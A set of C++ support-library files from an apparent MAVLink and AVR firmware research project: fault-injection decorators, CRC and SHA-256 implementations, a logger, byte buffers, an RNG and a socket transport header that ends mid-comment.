  /// plane is disarmed or the socket invalid) — the connect-side
  /// decorator, sibling of FaultyListener on the accept side.
  void arm(Socket& sock);

  /// Snapshot of the injected-fault tally (safe to call concurrently
  /// with live connections).
  NetFaultStats stats() const;

  struct Impl;  ///< internal; public only so connection hooks can tally

 private:
  std::unique_ptr<Impl> impl_;
};

/// Listener decorator: accepts through the wrapped listener and arms
/// every accepted socket with `plane`'s next connection stream.
class FaultyListener : public Listener {
 public:
  /// `plane` must outlive the listener (the coordinator owns both).
  FaultyListener(std::unique_ptr<Listener> inner, NetFaultPlane* plane)
      : inner_(std::move(inner)), plane_(plane) {}

  Socket accept(int timeout_ms) override;
  void close() override { inner_->close(); }
  const Endpoint& endpoint() const override { return inner_->endpoint(); }

 private:
  std::unique_ptr<Listener> inner_;
  NetFaultPlane* plane_;
};

}  // namespace mavr::support
