#include "support/crc.hpp"

namespace mavr::support {

void Crc16::update(std::uint8_t byte) {
  std::uint8_t tmp = byte ^ static_cast<std::uint8_t>(crc_ & 0xFF);
  tmp ^= static_cast<std::uint8_t>(tmp << 4);
  crc_ = static_cast<std::uint16_t>((crc_ >> 8) ^ (tmp << 8) ^ (tmp << 3) ^
                                    (tmp >> 4));
}

void Crc16::update(std::span<const std::uint8_t> data) {
  for (std::uint8_t b : data) update(b);
}

std::uint16_t crc16_x25(std::span<const std::uint8_t> data) {
  Crc16 crc;
  crc.update(data);
  return crc.value();
}

void Crc32::update(std::uint8_t byte) {
  crc_ ^= byte;
  for (int bit = 0; bit < 8; ++bit) {
    crc_ = (crc_ >> 1) ^ (0xEDB88320u & (~(crc_ & 1u) + 1u));
  }
}

void Crc32::update(std::span<const std::uint8_t> data) {
  for (std::uint8_t b : data) update(b);
}

std::uint32_t crc32_ieee(std::span<const std::uint8_t> data) {
  Crc32 crc;
  crc.update(data);
  return crc.value();
}

}  // namespace mavr::support
