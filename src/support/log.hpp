// Minimal leveled logger. Disabled (Warn) by default so tests and benches
// stay quiet; examples raise the level to narrate what the system does.
#pragma once

#include <sstream>
#include <string>

namespace mavr::support {

enum class LogLevel { Trace, Debug, Info, Warn, Error, Off };

/// Sets the global minimum level that is emitted.
void set_log_level(LogLevel level);

/// Current global minimum level.
LogLevel log_level();

/// Emits one log line to stderr if `level` passes the global threshold.
void log_line(LogLevel level, const std::string& component,
              const std::string& message);

namespace detail {

class LogStream {
 public:
  LogStream(LogLevel level, std::string component)
      : level_(level), component_(std::move(component)) {}
  ~LogStream() { log_line(level_, component_, os_.str()); }

  template <typename T>
  LogStream& operator<<(const T& value) {
    os_ << value;
    return *this;
  }

 private:
  LogLevel level_;
  std::string component_;
  std::ostringstream os_;
};

}  // namespace detail

}  // namespace mavr::support

#define MAVR_LOG(level, component) \
  ::mavr::support::detail::LogStream(::mavr::support::LogLevel::level, (component))
