#include "support/fault.hpp"

namespace mavr::support {

FaultConfig FaultConfig::uniform(double rate) {
  FaultConfig c;
  // A container read touches tens of kilobytes while a page transfer moves
  // 256 bytes, so per-byte read rates are scaled down to keep the fault
  // pressure per whole-container read in the same regime as per-page
  // transfer faults (otherwise read faults saturate the sweep long before
  // the page-level machinery is exercised).
  c.read_bit_flip = rate / 4096.0;
  c.read_stuck_byte = rate / 8192.0;
  c.page_corrupt = rate;
  c.page_drop = rate;
  c.program_fail = rate;
  return c;
}

FaultPlane::FaultPlane(const FaultConfig& config, const Rng& rng)
    : armed_(config.any()),
      config_(config),
      read_rng_(rng.fork(0)),
      page_rng_(rng.fork(1)),
      program_rng_(rng.fork(2)) {}

std::uint8_t FaultPlane::filter_read(std::uint8_t value) {
  if (!armed_) return value;
  // Each enabled fault class draws exactly once per byte, so the schedule
  // is a pure function of (config, seed, read index).
  if (config_.read_stuck_byte > 0 && read_rng_.chance(config_.read_stuck_byte)) {
    ++stats_.read_stuck_bytes;
    return 0xFF;  // erased-cell readout
  }
  if (config_.read_bit_flip > 0 && read_rng_.chance(config_.read_bit_flip)) {
    ++stats_.read_bit_flips;
    return static_cast<std::uint8_t>(value ^ (1u << read_rng_.below(8)));
  }
  return value;
}

PageTransfer FaultPlane::filter_page(std::span<std::uint8_t> page) {
  if (!armed_ || page.empty()) return PageTransfer::kOk;
  if (config_.page_drop > 0 && page_rng_.chance(config_.page_drop)) {
    ++stats_.pages_dropped;
    return PageTransfer::kDropped;
  }
  if (config_.page_corrupt > 0 && page_rng_.chance(config_.page_corrupt)) {
    ++stats_.pages_corrupted;
    const std::size_t at =
        static_cast<std::size_t>(page_rng_.below(page.size()));
    page[at] = static_cast<std::uint8_t>(page[at] ^ (1u << page_rng_.below(8)));
    return PageTransfer::kCorrupted;
  }
  return PageTransfer::kOk;
}

bool FaultPlane::program_succeeds(std::uint32_t wear_cycles) {
  if (!armed_) return true;
  if (config_.program_fail > 0 && program_rng_.chance(config_.program_fail)) {
    ++stats_.programs_failed;
    return false;
  }
  if (config_.wearout_threshold > 0 && wear_cycles >= config_.wearout_threshold &&
      config_.wearout_fail > 0 && program_rng_.chance(config_.wearout_fail)) {
    ++stats_.wearout_failures;
    return false;
  }
  return true;
}

}  // namespace mavr::support
