// CRC-16/X.25 (a.k.a. CRC-16/MCRF4XX in its non-inverted accumulate form),
// the checksum MAVLink uses for packet integrity (paper Fig. 2).
#pragma once

#include <cstdint>
#include <span>

namespace mavr::support {

/// Incremental CRC-16/X.25 accumulator (init 0xFFFF, poly 0x8408 reflected).
class Crc16 {
 public:
  /// Folds one byte into the accumulator.
  void update(std::uint8_t byte);

  /// Folds a byte range into the accumulator.
  void update(std::span<const std::uint8_t> data);

  /// Current checksum value.
  std::uint16_t value() const { return crc_; }

 private:
  std::uint16_t crc_ = 0xFFFF;
};

/// One-shot CRC-16/X.25 over a byte range.
std::uint16_t crc16_x25(std::span<const std::uint8_t> data);

}  // namespace mavr::support
