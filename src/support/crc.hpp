// CRC-16/X.25 (a.k.a. CRC-16/MCRF4XX in its non-inverted accumulate form),
// the checksum MAVLink uses for packet integrity (paper Fig. 2), plus
// CRC-32/ISO-HDLC used by the reflash pipeline to frame the firmware
// container and verify programmed pages (DESIGN.md §9).
#pragma once

#include <cstdint>
#include <span>

namespace mavr::support {

/// Incremental CRC-16/X.25 accumulator (init 0xFFFF, poly 0x8408 reflected).
class Crc16 {
 public:
  /// Folds one byte into the accumulator.
  void update(std::uint8_t byte);

  /// Folds a byte range into the accumulator.
  void update(std::span<const std::uint8_t> data);

  /// Current checksum value.
  std::uint16_t value() const { return crc_; }

 private:
  std::uint16_t crc_ = 0xFFFF;
};

/// One-shot CRC-16/X.25 over a byte range.
std::uint16_t crc16_x25(std::span<const std::uint8_t> data);

/// Incremental CRC-32/ISO-HDLC (the zlib/Ethernet polynomial, reflected:
/// init 0xFFFFFFFF, poly 0xEDB88320, final xor 0xFFFFFFFF).
class Crc32 {
 public:
  void update(std::uint8_t byte);
  void update(std::span<const std::uint8_t> data);
  std::uint32_t value() const { return crc_ ^ 0xFFFFFFFFu; }

 private:
  std::uint32_t crc_ = 0xFFFFFFFFu;
};

/// One-shot CRC-32/ISO-HDLC over a byte range.
std::uint32_t crc32_ieee(std::span<const std::uint8_t> data);

}  // namespace mavr::support
