// Byte-buffer utilities: bounded readers/writers with explicit endianness.
//
// AVR quirks honoured here:
//  * return addresses live on the stack big-endian (MSB at the lowest
//    address) — see ByteWriter::u24_be and the attack payload builder;
//  * everything else on AVR (vectors, pointers in data) is little-endian.
#pragma once

#include <cstdint>
#include <cstddef>
#include <span>
#include <vector>

#include "support/error.hpp"

namespace mavr::support {

using Bytes = std::vector<std::uint8_t>;

/// Sequential writer appending primitives to a byte vector.
class ByteWriter {
 public:
  explicit ByteWriter(Bytes& out) : out_(out) {}

  void u8(std::uint8_t v) { out_.push_back(v); }

  void u16_le(std::uint16_t v) {
    u8(static_cast<std::uint8_t>(v & 0xFF));
    u8(static_cast<std::uint8_t>(v >> 8));
  }

  void u16_be(std::uint16_t v) {
    u8(static_cast<std::uint8_t>(v >> 8));
    u8(static_cast<std::uint8_t>(v & 0xFF));
  }

  void u32_le(std::uint32_t v) {
    u16_le(static_cast<std::uint16_t>(v & 0xFFFF));
    u16_le(static_cast<std::uint16_t>(v >> 16));
  }

  /// 24-bit big-endian value — the layout of an ATmega2560 return address
  /// in ascending stack memory.
  void u24_be(std::uint32_t v) {
    MAVR_REQUIRE(v <= 0xFFFFFF, "u24 value out of range");
    u8(static_cast<std::uint8_t>((v >> 16) & 0xFF));
    u8(static_cast<std::uint8_t>((v >> 8) & 0xFF));
    u8(static_cast<std::uint8_t>(v & 0xFF));
  }

  void bytes(std::span<const std::uint8_t> data) {
    out_.insert(out_.end(), data.begin(), data.end());
  }

  void fill(std::uint8_t value, std::size_t count) {
    out_.insert(out_.end(), count, value);
  }

  std::size_t size() const { return out_.size(); }

 private:
  Bytes& out_;
};

/// Sequential bounds-checked reader over a byte span.
class ByteReader {
 public:
  explicit ByteReader(std::span<const std::uint8_t> data) : data_(data) {}

  std::size_t remaining() const { return data_.size() - pos_; }
  std::size_t position() const { return pos_; }
  bool done() const { return pos_ == data_.size(); }

  std::uint8_t u8() {
    MAVR_REQUIRE(remaining() >= 1, "ByteReader underflow");
    return data_[pos_++];
  }

  std::uint16_t u16_le() {
    std::uint16_t lo = u8();
    std::uint16_t hi = u8();
    return static_cast<std::uint16_t>(lo | (hi << 8));
  }

  std::uint16_t u16_be() {
    std::uint16_t hi = u8();
    std::uint16_t lo = u8();
    return static_cast<std::uint16_t>(lo | (hi << 8));
  }

  std::uint32_t u32_le() {
    std::uint32_t lo = u16_le();
    std::uint32_t hi = u16_le();
    return lo | (hi << 16);
  }

  std::uint32_t u24_be() {
    std::uint32_t b0 = u8();
    std::uint32_t b1 = u8();
    std::uint32_t b2 = u8();
    return (b0 << 16) | (b1 << 8) | b2;
  }

  Bytes bytes(std::size_t count) {
    MAVR_REQUIRE(remaining() >= count, "ByteReader underflow");
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
              data_.begin() + static_cast<std::ptrdiff_t>(pos_ + count));
    pos_ += count;
    return out;
  }

  void skip(std::size_t count) {
    MAVR_REQUIRE(remaining() >= count, "ByteReader underflow");
    pos_ += count;
  }

 private:
  std::span<const std::uint8_t> data_;
  std::size_t pos_ = 0;
};

/// Reads a little-endian u16 at `offset` from a span (random access).
inline std::uint16_t load_u16_le(std::span<const std::uint8_t> data,
                                 std::size_t offset) {
  MAVR_REQUIRE(offset + 2 <= data.size(), "load_u16_le out of range");
  return static_cast<std::uint16_t>(data[offset] | (data[offset + 1] << 8));
}

/// Writes a little-endian u16 at `offset` into a span (random access).
inline void store_u16_le(std::span<std::uint8_t> data, std::size_t offset,
                         std::uint16_t value) {
  MAVR_REQUIRE(offset + 2 <= data.size(), "store_u16_le out of range");
  data[offset] = static_cast<std::uint8_t>(value & 0xFF);
  data[offset + 1] = static_cast<std::uint8_t>(value >> 8);
}

}  // namespace mavr::support
