#include "support/sha256.hpp"

#include <algorithm>
#include <cstring>

#if defined(__x86_64__) && defined(__GNUC__)
#define MAVR_SHA256_X86 1
#include <immintrin.h>
#endif

#include "support/error.hpp"

namespace mavr::support {

namespace {

constexpr std::array<std::uint32_t, 64> kRound = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
    0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
    0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
    0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
    0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
    0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
    0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
    0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
    0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2};

std::uint32_t rotr(std::uint32_t x, int n) {
  return (x >> n) | (x << (32 - n));
}

#ifdef MAVR_SHA256_X86

// Hardware compression via the SHA extensions. The analysis plane hashes
// every firmware image and every function body it looks at
// (canonical_function_digest), which made the scalar schedule the
// dominant cost of a cache *hit*; sha256rnds2 runs the same FIPS 180-4
// rounds an order of magnitude faster. Same state in, same state out —
// the scalar path below stays as the portable fallback and as the
// reference the unit tests compare against.
__attribute__((target("sha,sse4.1,ssse3"))) void compress_shani(
    std::uint32_t* state, const std::uint8_t* data, std::size_t blocks) {
  const __m128i kFlip =
      _mm_set_epi64x(0x0c0d0e0f08090a0bLL, 0x0405060700010203LL);
  // SHA-NI keeps the state as (ABEF, CDGH) rather than (ABCD, EFGH).
  __m128i tmp = _mm_loadu_si128(reinterpret_cast<const __m128i*>(state));
  __m128i state1 =
      _mm_loadu_si128(reinterpret_cast<const __m128i*>(state + 4));
  tmp = _mm_shuffle_epi32(tmp, 0xB1);
  state1 = _mm_shuffle_epi32(state1, 0x1B);
  __m128i state0 = _mm_alignr_epi8(tmp, state1, 8);
  state1 = _mm_blend_epi16(state1, tmp, 0xF0);

  const auto k = [](int i) {
    return _mm_set_epi32(static_cast<int>(kRound[i + 3]),
                         static_cast<int>(kRound[i + 2]),
                         static_cast<int>(kRound[i + 1]),
                         static_cast<int>(kRound[i]));
  };
  while (blocks-- > 0) {
    const __m128i abef_save = state0;
    const __m128i cdgh_save = state1;
    __m128i msg0, msg1, msg2, msg3, msg;

    // Rounds 0-15: straight from the block.
    msg0 = _mm_shuffle_epi8(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(data)), kFlip);
    msg = _mm_add_epi32(msg0, k(0));
    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
    msg = _mm_shuffle_epi32(msg, 0x0E);
    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);

    msg1 = _mm_shuffle_epi8(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 16)), kFlip);
    msg = _mm_add_epi32(msg1, k(4));
    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
    msg = _mm_shuffle_epi32(msg, 0x0E);
    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
    msg0 = _mm_sha256msg1_epu32(msg0, msg1);

    msg2 = _mm_shuffle_epi8(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 32)), kFlip);
    msg = _mm_add_epi32(msg2, k(8));
    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
    msg = _mm_shuffle_epi32(msg, 0x0E);
    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
    msg1 = _mm_sha256msg1_epu32(msg1, msg2);

    msg3 = _mm_shuffle_epi8(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 48)), kFlip);
    msg = _mm_add_epi32(msg3, k(12));
    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
    tmp = _mm_alignr_epi8(msg3, msg2, 4);
    msg0 = _mm_add_epi32(msg0, tmp);
    msg0 = _mm_sha256msg2_epu32(msg0, msg3);
    msg = _mm_shuffle_epi32(msg, 0x0E);
    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
    msg2 = _mm_sha256msg1_epu32(msg2, msg3);

    // Rounds 16-51: the rolling message schedule.
    for (int round = 16; round <= 48; round += 16) {
      msg = _mm_add_epi32(msg0, k(round));
      state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
      tmp = _mm_alignr_epi8(msg0, msg3, 4);
      msg1 = _mm_add_epi32(msg1, tmp);
      msg1 = _mm_sha256msg2_epu32(msg1, msg0);
      msg = _mm_shuffle_epi32(msg, 0x0E);
      state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
      msg3 = _mm_sha256msg1_epu32(msg3, msg0);

      msg = _mm_add_epi32(msg1, k(round + 4));
      state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
      tmp = _mm_alignr_epi8(msg1, msg0, 4);
      msg2 = _mm_add_epi32(msg2, tmp);
      msg2 = _mm_sha256msg2_epu32(msg2, msg1);
      msg = _mm_shuffle_epi32(msg, 0x0E);
      state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
      msg0 = _mm_sha256msg1_epu32(msg0, msg1);

      msg = _mm_add_epi32(msg2, k(round + 8));
      state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
      tmp = _mm_alignr_epi8(msg2, msg1, 4);
      msg3 = _mm_add_epi32(msg3, tmp);
      msg3 = _mm_sha256msg2_epu32(msg3, msg2);
      msg = _mm_shuffle_epi32(msg, 0x0E);
      state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
      msg1 = _mm_sha256msg1_epu32(msg1, msg2);

      if (round == 48) break;  // rounds 60-63 need no more scheduling
      msg = _mm_add_epi32(msg3, k(round + 12));
      state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
      tmp = _mm_alignr_epi8(msg3, msg2, 4);
      msg0 = _mm_add_epi32(msg0, tmp);
      msg0 = _mm_sha256msg2_epu32(msg0, msg3);
      msg = _mm_shuffle_epi32(msg, 0x0E);
      state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
      msg2 = _mm_sha256msg1_epu32(msg2, msg3);
    }

    // Rounds 60-63.
    msg = _mm_add_epi32(msg3, k(60));
    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
    msg = _mm_shuffle_epi32(msg, 0x0E);
    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);

    state0 = _mm_add_epi32(state0, abef_save);
    state1 = _mm_add_epi32(state1, cdgh_save);
    data += 64;
  }

  tmp = _mm_shuffle_epi32(state0, 0x1B);
  state1 = _mm_shuffle_epi32(state1, 0xB1);
  state0 = _mm_blend_epi16(tmp, state1, 0xF0);
  state1 = _mm_alignr_epi8(state1, tmp, 8);
  _mm_storeu_si128(reinterpret_cast<__m128i*>(state), state0);
  _mm_storeu_si128(reinterpret_cast<__m128i*>(state + 4), state1);
}

bool cpu_has_shani() {
  static const bool has = [] {
    __builtin_cpu_init();
    return __builtin_cpu_supports("sha") != 0 &&
           __builtin_cpu_supports("sse4.1") != 0 &&
           __builtin_cpu_supports("ssse3") != 0;
  }();
  return has;
}

#endif  // MAVR_SHA256_X86

}  // namespace

Sha256::Sha256()
    : state_{0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f,
             0x9b05688c, 0x1f83d9ab, 0x5be0cd19} {}

void Sha256::compress(const std::uint8_t* block) {
#ifdef MAVR_SHA256_X86
  if (cpu_has_shani()) {
    compress_shani(state_.data(), block, 1);
    return;
  }
#endif
  std::uint32_t w[64];
  for (int i = 0; i < 16; ++i) {
    w[i] = (static_cast<std::uint32_t>(block[4 * i]) << 24) |
           (static_cast<std::uint32_t>(block[4 * i + 1]) << 16) |
           (static_cast<std::uint32_t>(block[4 * i + 2]) << 8) |
           static_cast<std::uint32_t>(block[4 * i + 3]);
  }
  for (int i = 16; i < 64; ++i) {
    const std::uint32_t s0 =
        rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >> 3);
    const std::uint32_t s1 =
        rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >> 10);
    w[i] = w[i - 16] + s0 + w[i - 7] + s1;
  }
  std::uint32_t a = state_[0], b = state_[1], c = state_[2], d = state_[3];
  std::uint32_t e = state_[4], f = state_[5], g = state_[6], h = state_[7];
  for (int i = 0; i < 64; ++i) {
    const std::uint32_t s1 = rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25);
    const std::uint32_t ch = (e & f) ^ (~e & g);
    const std::uint32_t t1 = h + s1 + ch + kRound[i] + w[i];
    const std::uint32_t s0 = rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22);
    const std::uint32_t maj = (a & b) ^ (a & c) ^ (b & c);
    const std::uint32_t t2 = s0 + maj;
    h = g;
    g = f;
    f = e;
    e = d + t1;
    d = c;
    c = b;
    b = a;
    a = t1 + t2;
  }
  state_[0] += a;
  state_[1] += b;
  state_[2] += c;
  state_[3] += d;
  state_[4] += e;
  state_[5] += f;
  state_[6] += g;
  state_[7] += h;
}

void Sha256::update(std::span<const std::uint8_t> data) {
  MAVR_REQUIRE(!finished_, "Sha256: update after finish");
  total_bytes_ += data.size();
  std::size_t pos = 0;
  if (buffered_ > 0) {
    const std::size_t take =
        std::min(data.size(), buffer_.size() - buffered_);
    std::memcpy(buffer_.data() + buffered_, data.data(), take);
    buffered_ += take;
    pos = take;
    if (buffered_ == buffer_.size()) {
      compress(buffer_.data());
      buffered_ = 0;
    }
  }
#ifdef MAVR_SHA256_X86
  // Bulk path: hand whole runs of blocks to the hardware kernel at once
  // so the state round-trips through memory once per update, not once
  // per 64 bytes.
  if (data.size() - pos >= 64 && cpu_has_shani()) {
    const std::size_t nblocks = (data.size() - pos) / 64;
    compress_shani(state_.data(), data.data() + pos, nblocks);
    pos += nblocks * 64;
  }
#endif
  while (data.size() - pos >= 64) {
    compress(data.data() + pos);
    pos += 64;
  }
  if (pos < data.size()) {
    std::memcpy(buffer_.data(), data.data() + pos, data.size() - pos);
    buffered_ = data.size() - pos;
  }
}

Sha256Digest Sha256::finish() {
  MAVR_REQUIRE(!finished_, "Sha256: finish called twice");
  const std::uint64_t bit_length = total_bytes_ * 8;
  // Padding: 0x80, zeros to 56 mod 64, then the bit length big-endian.
  std::uint8_t pad[72] = {0x80};
  const std::size_t pad_len = (buffered_ < 56 ? 56 : 120) - buffered_;
  update(std::span<const std::uint8_t>(pad, pad_len));
  std::uint8_t len_be[8];
  for (int i = 0; i < 8; ++i) {
    len_be[i] = static_cast<std::uint8_t>(bit_length >> (56 - 8 * i));
  }
  update(len_be);
  finished_ = true;
  Sha256Digest out;
  for (int i = 0; i < 8; ++i) {
    out[4 * i] = static_cast<std::uint8_t>(state_[i] >> 24);
    out[4 * i + 1] = static_cast<std::uint8_t>(state_[i] >> 16);
    out[4 * i + 2] = static_cast<std::uint8_t>(state_[i] >> 8);
    out[4 * i + 3] = static_cast<std::uint8_t>(state_[i]);
  }
  return out;
}

Sha256Digest sha256(std::span<const std::uint8_t> data) {
  Sha256 h;
  h.update(data);
  return h.finish();
}

Sha256Digest hmac_sha256(std::span<const std::uint8_t> key,
                         std::span<const std::uint8_t> msg) {
  std::array<std::uint8_t, 64> block{};
  if (key.size() > block.size()) {
    const Sha256Digest hashed = sha256(key);
    std::memcpy(block.data(), hashed.data(), hashed.size());
  } else if (!key.empty()) {
    std::memcpy(block.data(), key.data(), key.size());
  }
  std::array<std::uint8_t, 64> ipad, opad;
  for (std::size_t i = 0; i < block.size(); ++i) {
    ipad[i] = block[i] ^ 0x36;
    opad[i] = block[i] ^ 0x5c;
  }
  Sha256 inner;
  inner.update(ipad);
  inner.update(msg);
  const Sha256Digest inner_digest = inner.finish();
  Sha256 outer;
  outer.update(opad);
  outer.update(inner_digest);
  return outer.finish();
}

bool digest_equal(const Sha256Digest& a, const Sha256Digest& b) {
  std::uint8_t diff = 0;
  for (std::size_t i = 0; i < a.size(); ++i) diff |= a[i] ^ b[i];
  return diff == 0;
}

}  // namespace mavr::support
