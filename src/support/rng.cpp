#include "support/rng.hpp"

#include <numeric>

namespace mavr::support {

namespace {

std::uint64_t splitmix64(std::uint64_t& state) {
  std::uint64_t z = (state += 0x9E3779B97F4A7C15ULL);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

Rng::Rng(std::uint64_t seed) : seed_(seed) {
  std::uint64_t sm = seed;
  for (auto& lane : s_) lane = splitmix64(sm);
}

std::uint64_t Rng::derive_seed(std::uint64_t root, std::uint64_t index) {
  std::uint64_t s = root;
  const std::uint64_t whitened = splitmix64(s);
  s = whitened ^ index;
  return splitmix64(s);
}

Rng Rng::fork(std::uint64_t index) const {
  return Rng(derive_seed(seed_, index));
}

std::uint64_t Rng::next() {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::below(std::uint64_t bound) {
  if (bound <= 1) return 0;
  // Rejection sampling: discard the biased tail of the 64-bit range.
  const std::uint64_t limit = ~std::uint64_t{0} - (~std::uint64_t{0} % bound);
  std::uint64_t draw;
  do {
    draw = next();
  } while (draw >= limit);
  return draw % bound;
}

std::uint64_t Rng::range(std::uint64_t lo, std::uint64_t hi) {
  return lo + below(hi - lo + 1);
}

double Rng::unit() {
  // 53 high bits → uniform double in [0,1).
  return static_cast<double>(next() >> 11) * 0x1.0p-53;
}

bool Rng::chance(double p) { return unit() < p; }

std::vector<std::size_t> Rng::permutation(std::size_t n) {
  std::vector<std::size_t> perm(n);
  std::iota(perm.begin(), perm.end(), std::size_t{0});
  shuffle(perm);
  return perm;
}

}  // namespace mavr::support
