// Stream-socket transport for the campaignd coordinator/worker split
// (DESIGN.md §12–§13).
//
// Two interchangeable transports behind one `Listener` interface:
//
//  * AF_UNIX (`UnixListener`/`unix_connect`) — the single-machine default.
//    A filesystem socket gives process isolation, a namable rendezvous
//    point, kill-driven connection teardown, and filesystem-permission
//    access control for free.
//  * TCP (`TcpListener`/`tcp_connect`) — the multi-machine transport.
//    Same byte-stream semantics, so the framed protocol above is
//    unchanged; what TCP does *not* give is filesystem access control,
//    which is why the campaignd protocol layers a challenge-response
//    handshake on top (protocol.hpp).
//
// Endpoints are named by a spec string — `unix:/path`, `tcp:host:port`
// (IPv6 hosts in brackets: `tcp:[::1]:9000`), or a bare filesystem path
// which reads as AF_UNIX for backward compatibility — parsed once by
// `parse_endpoint` and dispatched by `make_listener`/`connect_endpoint`.
//
// The API is otherwise three pieces: an RAII fd (`Socket`) with
// exact-length timed I/O, a bound listener, and a retrying connect with
// linear backoff.
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <utility>

namespace mavr::support {

/// Outcome of a timed read. kTimeout only when *nothing* arrived before
/// the deadline; bytes followed by silence or EOF is kClosed (the stream
/// is mid-frame and unusable).
enum class IoStatus { kOk, kTimeout, kClosed };

/// Injection hook a Socket consults on every send/recv when armed — the
/// seam the chaos plane (support/netfault) decorates transport through.
/// A hook serves exactly one Socket (per-connection state such as a
/// half-open hang lives here), so implementations need no locking of
/// their own beyond any shared tally they report into.
class SocketFaultHook {
 public:
  virtual ~SocketFaultHook() = default;

  /// What one send_all should do to its buffer. Defaults are "deliver
  /// intact".
  struct SendPlan {
    bool drop = false;       ///< swallow silently; caller still sees success
    bool half_open = false;  ///< go permanently silent (this send and on)
    /// Flip `corrupt_mask` into byte `corrupt_at` (when < len) — must be
    /// caught by the receiver's CRC framing, never silently merged.
    std::size_t corrupt_at = SIZE_MAX;
    std::uint8_t corrupt_mask = 0;
    /// Short write: deliver only this prefix, then shut the write side
    /// down (the peer sees a torn frame followed by EOF).
    std::size_t truncate_to = SIZE_MAX;
    std::uint32_t delay_ms = 0;  ///< stall before transmitting
  };
  virtual SendPlan plan_send(std::size_t len) = 0;

  /// Stall (ms) injected before the next read; 0 = none.
  virtual std::uint32_t plan_recv_delay() = 0;

  /// True once the connection has gone half-open: reads yield nothing
  /// until the caller's own timeout declares the peer dead.
  virtual bool recv_hung() = 0;
};

/// Owning wrapper over a connected stream-socket fd. Move-only.
class Socket {
 public:
  Socket() = default;
  explicit Socket(int fd) : fd_(fd) {}
  ~Socket() { close(); }
  Socket(Socket&& other) noexcept
      : fd_(other.release()), fault_(std::move(other.fault_)) {}
  Socket& operator=(Socket&& other) noexcept;
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;

  bool valid() const { return fd_ >= 0; }
  int fd() const { return fd_; }
  int release();
  void close();

  /// Arms fault injection on this socket. The hook rides along on move
  /// (a FaultyListener attaches it before handing the accepted socket
  /// out by value). Null disarms.
  void set_fault_hook(std::shared_ptr<SocketFaultHook> hook) {
    fault_ = std::move(hook);
  }
  bool fault_armed() const { return fault_ != nullptr; }

  /// Writes all of `data`; false on any error (peer gone). Never raises
  /// SIGPIPE.
  bool send_all(std::span<const std::uint8_t> data);

  /// Reads exactly `n` bytes. `timeout_ms < 0` waits forever.
  IoStatus recv_exact(std::uint8_t* dst, std::size_t n, int timeout_ms);

  /// Connected AF_UNIX socketpair (in-process protocol tests).
  static std::pair<Socket, Socket> make_pair();

 private:
  int fd_ = -1;
  std::shared_ptr<SocketFaultHook> fault_;
};

/// A parsed transport address: where a coordinator listens / a peer
/// connects.
struct Endpoint {
  enum class Kind { kUnix, kTcp };
  Kind kind = Kind::kUnix;
  std::string path;        ///< kUnix: filesystem socket path
  std::string host;        ///< kTcp: hostname or numeric address
  std::uint16_t port = 0;  ///< kTcp: port (0 = ephemeral, listeners only)
};

/// Parses `unix:PATH`, `tcp:HOST:PORT`, `tcp:[V6HOST]:PORT`, or a bare
/// path (AF_UNIX). nullopt on malformed specs (empty host/path, bad or
/// out-of-range port).
